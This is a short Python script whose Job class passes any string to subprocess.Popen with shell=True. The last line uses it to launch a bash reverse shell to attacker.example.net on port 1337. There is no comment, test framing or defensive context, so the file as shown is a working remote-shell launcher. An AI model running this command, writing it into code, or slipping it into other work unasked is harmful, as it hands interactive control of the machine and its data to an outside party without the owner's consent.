
import subprocess

class Job:
    def __init__(self, cmd):
        self.start(cmd)

    def start(self, cmd):
        subprocess.Popen(cmd, shell=True)

Job("bash -i >& /dev/tcp/attacker.example.net/1337 0>&1")
